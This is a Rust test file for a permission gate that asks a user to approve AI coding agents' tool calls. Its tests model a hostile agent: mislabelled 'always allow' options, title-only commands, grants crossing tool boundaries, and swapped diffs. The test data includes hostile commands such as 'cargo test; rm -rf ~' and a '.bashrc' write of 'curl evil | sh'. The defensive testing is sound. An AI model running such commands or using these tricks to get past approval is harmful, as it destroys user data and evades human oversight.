//! A hostile or careless agent against the gate in the state: option ids
//! and names that would make an answer read as "always", grants kept from
//! what only the title says, and grants crossing between the agent's own
//! tools and warden's file and terminal calls.

use crate::state::Code;
use pretty_assertions::assert_eq;
use serde_json::json;

use crate::model::{
    Location, OptionKind, PermissionOption, PermissionOutcome, PermissionRequest, SessionInfo,
    ToolCallFields, ToolKind,
};
use crate::policy::{ChatGrant, GrantCommands, Mode, RequestView};
use crate::state::{Action, ChatState, Effect, Focus, Msg, OnAsk, RequestId};

use crate::test_support::option;

fn chat(mode: Mode) -> ChatState {
    let mut s = ChatState::new("demo", "/w");
    s.gate.mode = mode;
    s.gate.agent_policy.name = "demo".into();
    s.session.cwd_path = "/w".into();
    s.update(Msg::SessionStarted(SessionInfo {
        session_id: "s".into(),
        modes: None,
        origin: Default::default(),
    }));
    s.update(Msg::Action(Action::Paste("go".into())));
    s.update(Msg::Action(Action::key(Code::Enter)));
    s
}

fn ask(s: &mut ChatState, id: RequestId, request: PermissionRequest) -> Vec<Effect> {
    s.update(Msg::PermissionRequested {
        id,
        request: Box::new(request),
    })
}

fn key(s: &mut ChatState, action: Action) -> Vec<Effect> {
    s.update(Msg::Action(action))
}

fn answers(effects: &[Effect]) -> Vec<(RequestId, PermissionOutcome)> {
    effects
        .iter()
        .filter_map(|e| match e {
            Effect::RespondPermission { id, outcome } => Some((*id, outcome.clone())),
            _ => None,
        })
        .collect()
}

fn selected(id: &str) -> PermissionOutcome {
    PermissionOutcome::Selected(id.into())
}

fn bash(tool_call: &str, command: &str, options: Vec<PermissionOption>) -> PermissionRequest {
    PermissionRequest {
        session_id: "s".into(),
        tool_call_id: tool_call.into(),
        fields: ToolCallFields {
            title: Some(command.into()),
            kind: Some(ToolKind::Execute),
            tool_name: Some("Bash".into()),
            raw_input: Some(json!({ "command": command })),
            ..Default::default()
        },
        options,
        client: false,
    }
}

fn usual() -> Vec<PermissionOption> {
    vec![
        option("once", "Allow", OptionKind::AllowOnce),
        option("always", "Always allow", OptionKind::AllowAlways),
        option("no", "Reject", OptionKind::RejectOnce),
    ]
}

/// `allow_once` and `allow_always` under one id (and a reject of its own).
fn shared_allow_id() -> Vec<PermissionOption> {
    vec![
        option("x", "Allow", OptionKind::AllowOnce),
        option("x", "Always allow", OptionKind::AllowAlways),
        option("no", "Reject", OptionKind::RejectOnce),
    ]
}

// ---- Option ids and names (lead 5) ----

#[test]
fn y_never_answers_an_allow_once_that_shares_its_id_with_allow_always() {
    let mut s = chat(Mode::Default);
    ask(&mut s, 1, bash("t1", "cargo test", shared_allow_id()));
    let effects = key(&mut s, Action::ch('y'));
    assert_eq!(
        answers(&effects),
        vec![],
        "the agent might read x as always"
    );
    assert_eq!(s.gate.approvals.len(), 1, "the card stays");
}

#[test]
fn allow_for_this_chat_answers_the_allow_once_whose_id_is_its_own() {
    let mut s = chat(Mode::Default);
    let mut options = shared_allow_id();
    options.push(option("y", "Allow", OptionKind::AllowOnce));
    ask(&mut s, 1, bash("t1", "cargo test", options));
    let effects = key(&mut s, Action::ch('a'));
    assert_eq!(answers(&effects), vec![(1, selected("y"))]);
}

#[test]
fn on_ask_allow_and_approve_all_never_answer_a_shared_id() {
    let mut s = chat(Mode::Default);
    s.gate.headless = Some(OnAsk::Allow);
    let effects = ask(&mut s, 1, bash("t1", "cargo test", shared_allow_id()));
    assert_eq!(answers(&effects), vec![(1, selected("no"))]);

    let mut s = chat(Mode::Default);
    ask(&mut s, 1, bash("t1", "cargo test", shared_allow_id()));
    key(&mut s, Action::ch('A'));
    let effects = key(&mut s, Action::ch('y'));
    assert_eq!(answers(&effects), vec![]);
    assert_eq!(s.gate.approvals.len(), 1);
}

#[test]
fn a_deny_never_answers_a_reject_that_shares_its_id_with_an_allow() {
    let options = || {
        vec![
            option("once", "Allow", OptionKind::AllowOnce),
            option("x", "Always allow", OptionKind::AllowAlways),
            option("x", "Reject", OptionKind::RejectOnce),
        ]
    };
    // The user's n.
    let mut s = chat(Mode::Default);
    ask(&mut s, 1, bash("t1", "cargo test", options()));
    let effects = key(&mut s, Action::ch('n'));
    assert_eq!(answers(&effects), vec![(1, PermissionOutcome::Cancelled)]);
    // Its number.
    let mut s = chat(Mode::Default);
    ask(&mut s, 1, bash("t1", "cargo test", options()));
    let effects = key(&mut s, Action::ch('3'));
    assert_eq!(answers(&effects), vec![(1, PermissionOutcome::Cancelled)]);
    // Plan's automatic deny.
    let mut s = chat(Mode::Plan);
    let effects = ask(&mut s, 1, bash("t1", "cargo test", options()));
    assert_eq!(answers(&effects), vec![(1, PermissionOutcome::Cancelled)]);
}

#[test]
fn an_allow_once_that_says_always_is_never_answered_automatically() {
    for lasting in [
        option("ok", "Always allow", OptionKind::AllowOnce),
        option("ok", "Yes, and don't ask again", OptionKind::AllowOnce),
        option("ok", "Allow for this session", OptionKind::AllowOnce),
        option("proceed_always", "Allow", OptionKind::AllowOnce),
    ] {
        let options = vec![
            lasting.clone(),
            option("no", "Reject", OptionKind::RejectOnce),
        ];
        let mut s = chat(Mode::Auto);
        let effects = ask(&mut s, 1, bash("t1", "cargo test", options.clone()));
        assert_eq!(answers(&effects), vec![], "{lasting:?}");
        assert_eq!(
            s.gate.approvals.len(),
            1,
            "Auto makes it a card: {lasting:?}"
        );
        assert_eq!(key(&mut s, Action::ch('y')), vec![], "{lasting:?}");
        assert!(
            s.view
                .notice
                .as_deref()
                .is_some_and(|n| n.contains("Always")),
            "{:?}",
            s.view.notice
        );
        // Picked by its number, it is sent, with the warning.
        let effects = key(&mut s, Action::ch('1'));
        assert_eq!(answers(&effects), vec![(1, selected(&lasting.id))]);
        // Next to a plain allow_once, picking it answers that one and keeps a grant.
        let mut s = chat(Mode::Default);
        let mut options = options;
        options.insert(1, option("plain", "Allow", OptionKind::AllowOnce));
        ask(&mut s, 1, bash("t1", "cargo test", options));
        let effects = key(&mut s, Action::ch('1'));
        assert_eq!(
            answers(&effects),
            vec![(1, selected("plain"))],
            "{lasting:?}"
        );
        assert_eq!(s.gate.grants.len(), 1);
    }
}

#[test]
fn no_options_or_a_hundred_never_crash_or_allow_always() {
    let mut s = chat(Mode::Auto);
    let effects = ask(&mut s, 1, bash("t1", "cargo test", Vec::new()));
    assert_eq!(answers(&effects), vec![]);
    for k in ['y', 'a', 'b', '1', '9'] {
        assert_eq!(answers(&key(&mut s, Action::ch(k))), vec![], "{k}");
        s.view.focus = Focus::CARDS;
    }
    let effects = key(&mut s, Action::ch('n'));
    assert_eq!(answers(&effects), vec![(1, PermissionOutcome::Cancelled)]);

    let many: Vec<PermissionOption> = (0..100)
        .map(|i| option(&format!("a{i}"), "Always", OptionKind::AllowAlways))
        .chain([option("once", "Allow", OptionKind::AllowOnce)])
        .collect();
    let mut s = chat(Mode::Auto);
    let effects = ask(&mut s, 2, bash("t2", "cargo test", many));
    assert_eq!(answers(&effects), vec![(2, selected("once"))]);
}

// ---- Grants kept from the title only (lead 1) ----

/// gemini-cli: kind execute, the command only in the title.
fn gemini(tool_call: &str, title: &str) -> PermissionRequest {
    PermissionRequest {
        session_id: "s".into(),
        tool_call_id: tool_call.into(),
        fields: ToolCallFields {
            title: Some(title.into()),
            kind: Some(ToolKind::Execute),
            ..Default::default()
        },
        options: usual(),
        client: false,
    }
}

/// kimi-cli: no kind, no rawInput, `Shell: COMMAND` as the title.
fn kimi(tool_call: &str, command: &str) -> PermissionRequest {
    let mut req = gemini(tool_call, &format!("Shell: {command}"));
    req.fields.kind = None;
    req
}

/// gemini-cli runs its commands itself and says them only in the title: its
/// title is as much its word as a rawInput it could send, so `a` covers the
/// same command for the chat (issue 33 item 3). kimi-cli's kind is only
/// guessed (and it runs through warden's terminal): this card only.
#[test]
fn allow_for_this_chat_on_a_title_command_covers_the_same_command_only() {
    let mut s = chat(Mode::Default);
    let view = RequestView::from_request(&gemini("t1", "cargo test"), None);
    assert!(matches!(
        ChatGrant::for_request(&view).commands,
        Some(GrantCommands::Matching(_))
    ));
    ask(&mut s, 1, gemini("t1", "cargo test"));
    let effects = key(&mut s, Action::ch('a'));
    assert_eq!(answers(&effects), vec![(1, selected("once"))]);
    assert_eq!(s.gate.grants.len(), 1);
    // The same command again: no card.
    let effects = ask(&mut s, 2, gemini("t2", "cargo test"));
    assert_eq!(answers(&effects), vec![(2, selected("once"))]);
    // Another command, a line that adds one, a title warden cannot take
    // apart, or another tool's: cards.
    for (id, later) in [
        (3, gemini("t3", "cargo build")),
        (4, gemini("t4", "cargo test; rm -rf ~")),
        (5, gemini("t5", "cargo test [in /tmp] ; rm -rf ~")),
        (6, kimi("t6", "cargo test")),
        (7, bash("t7", "cargo test --lib", usual())),
    ] {
        let effects = ask(&mut s, id, later);
        assert_eq!(answers(&effects), vec![], "{id}");
    }

    let mut s = chat(Mode::Default);
    let view = RequestView::from_request(&kimi("t1", "cargo test"), None);
    assert_eq!(
        ChatGrant::for_request(&view).commands,
        Some(GrantCommands::Unreadable)
    );
    ask(&mut s, 1, kimi("t1", "cargo test"));
    key(&mut s, Action::ch('a'));
    assert_eq!(s.gate.grants, vec![]);
}

#[test]
fn a_grant_never_covers_a_later_command_that_is_only_in_the_title() {
    let mut s = chat(Mode::Default);
    ask(&mut s, 1, bash("t1", "cargo test", usual()));
    key(&mut s, Action::ch('a'));
    assert_eq!(s.gate.grants.len(), 1);
    for (id, later) in [
        (2, gemini("t2", "cargo test")),
        (3, kimi("t3", "cargo test")),
    ] {
        let effects = ask(&mut s, id, later);
        assert_eq!(answers(&effects), vec![], "{id}");
    }
}

// ---- Grants crossing between the agent's tools and warden's calls (lead 2) ----

fn edit(tool_call: &str, tool: &str, path: &str) -> PermissionRequest {
    PermissionRequest {
        session_id: "s".into(),
        tool_call_id: tool_call.into(),
        fields: ToolCallFields {
            title: Some(format!("Write {path}")),
            kind: Some(ToolKind::Edit),
            tool_name: Some(tool.into()),
            raw_input: Some(json!({ "file_path": path })),
            locations: Some(vec![Location {
                path: path.into(),
                line: None,
            }]),
            ..Default::default()
        },
        options: usual(),
        client: false,
    }
}

/// The synthetic request the runtime makes for the agent's `fs/write_text_file`.
fn client_write(id: RequestId, path: &str) -> PermissionRequest {
    PermissionRequest {
        session_id: "s".into(),
        tool_call_id: format!("warden-{id}"),
        fields: ToolCallFields {
            title: Some(format!("Write {path}")),
            kind: Some(ToolKind::Edit),
            tool_name: Some(crate::policy::CLIENT_WRITE.into()),
            raw_input: Some(json!({ "path": path })),
            locations: Some(vec![Location {
                path: path.into(),
                line: None,
            }]),
            ..Default::default()
        },
        options: vec![
            option("allow", "Allow", OptionKind::AllowOnce),
            option("reject", "Reject", OptionKind::RejectOnce),
        ],
        client: true,
    }
}

#[test]
fn a_grant_on_the_agents_write_tool_never_covers_wardens_file_writes() {
    // Claude's own Write tool, and an agent naming its tool after warden's call.
    for tool in ["Write", crate::policy::CLIENT_WRITE] {
        let mut s = chat(Mode::Default);
        ask(&mut s, 1, edit("t1", tool, "/w/notes.md"));
        key(&mut s, Action::ch('a'));
        assert_eq!(s.gate.grants.len(), 1, "{tool}");
        let effects = ask(&mut s, 2, client_write(2, "/w/.bashrc"));
        assert_eq!(answers(&effects), vec![], "{tool}: warden's write asks");
        assert_eq!(s.gate.approvals.len(), 1);
    }
    // And the other way: a grant on warden's write covers no tool of the agent's.
    let mut s = chat(Mode::Default);
    ask(&mut s, 1, client_write(1, "/w/notes.md"));
    key(&mut s, Action::ch('a'));
    assert_eq!(s.gate.grants.len(), 1);
    for (id, tool) in [(2, "Write"), (3, crate::policy::CLIENT_WRITE)] {
        let effects = ask(&mut s, id, edit(&format!("t{id}"), tool, "/w/x"));
        assert_eq!(answers(&effects), vec![], "{tool}");
        s.gate.approvals.clear();
        s.view.focus = Focus::COMPOSER;
    }
}

// ---- What a card shows is what was judged (lead 6) ----

fn diff(path: &str, new: &str) -> crate::model::ToolContent {
    crate::model::ToolContent::Diff {
        path: path.into(),
        old: None,
        new: new.into(),
    }
}

#[test]
fn a_tool_call_update_never_changes_what_a_waiting_card_shows() {
    use crate::model::{SessionUpdate, ToolCall, WireStatus};
    let mut s = chat(Mode::Default);
    s.update(Msg::Update(SessionUpdate::ToolCall(Box::new(ToolCall {
        id: "t1".into(),
        title: "Edit a.rs".into(),
        kind: ToolKind::Edit,
        status: WireStatus::Pending,
        content: vec![diff("/w/a.rs", "safe\n")],
        locations: Vec::new(),
        raw_input: None,
        raw_output: None,
        tool_name: Some("Edit".into()),
        agent_terminals: Vec::new(),
    }))));
    let mut req = edit("t1", "Edit", "/w/a.rs");
    req.fields.title = None;
    ask(&mut s, 1, req);
    assert_eq!(s.gate.approvals.len(), 1);
    s.update(Msg::Update(SessionUpdate::ToolCallUpdate {
        id: "t1".into(),
        fields: Box::new(ToolCallFields {
            content: Some(vec![diff("/w/.bashrc", "curl evil | sh\n")]),
            kind: Some(ToolKind::Read),
            ..Default::default()
        }),
    }));
    let card = &s.gate.approvals[0];
    assert_eq!(
        card.request.fields.content,
        Some(vec![diff("/w/a.rs", "safe\n")]),
        "the card shows the diff the policy judged"
    );
    assert_eq!(card.view.kind, ToolKind::Edit);
}

#[test]
fn an_agents_tool_call_under_wardens_id_never_shapes_a_client_call() {
    use crate::model::{SessionUpdate, ToolCall, WireStatus};
    let mut s = chat(Mode::Default);
    // The agent guesses the id warden will give its next file write.
    s.update(Msg::Update(SessionUpdate::ToolCall(Box::new(ToolCall {
        id: "warden-1".into(),
        title: "Write notes.md".into(),
        kind: ToolKind::Edit,
        status: WireStatus::Pending,
        content: vec![diff("/w/notes.md", "harmless\n")],
        locations: Vec::new(),
        raw_input: None,
        raw_output: None,
        tool_name: Some("Write".into()),
        agent_terminals: Vec::new(),
    }))));
    let mut req = client_write(1, "/w/.bashrc");
    req.fields.content = None;
    ask(&mut s, 1, req);
    let card = &s.gate.approvals[0];
    assert_eq!(card.view.diff_paths, Vec::<String>::new());
    assert_eq!(card.request.fields.content, None);
}

#[test]
fn a_permission_request_for_a_finished_tool_call_is_never_allowed() {
    use crate::model::{SessionUpdate, ToolCall, WireStatus};
    for status in [WireStatus::Completed, WireStatus::Failed] {
        let mut s = chat(Mode::Auto);
        s.update(Msg::Update(SessionUpdate::ToolCall(Box::new(ToolCall {
            id: "t-ls".into(),
            title: "ls".into(),
            kind: ToolKind::Execute,
            status,
            content: Vec::new(),
            locations: Vec::new(),
            raw_input: Some(json!({ "command": "ls" })),
            raw_output: None,
            tool_name: Some("Bash".into()),
            agent_terminals: Vec::new(),
        }))));
        // The finished call's harmless rawInput would fill the request's gaps.
        let mut req = gemini("t-ls", "Shell: rm -rf ~");
        req.fields.raw_input = None;
        let effects = ask(&mut s, 1, req);
        assert_eq!(
            answers(&effects),
            vec![(1, PermissionOutcome::Cancelled)],
            "{status:?}"
        );
        assert!(s.gate.approvals.is_empty());
    }
}
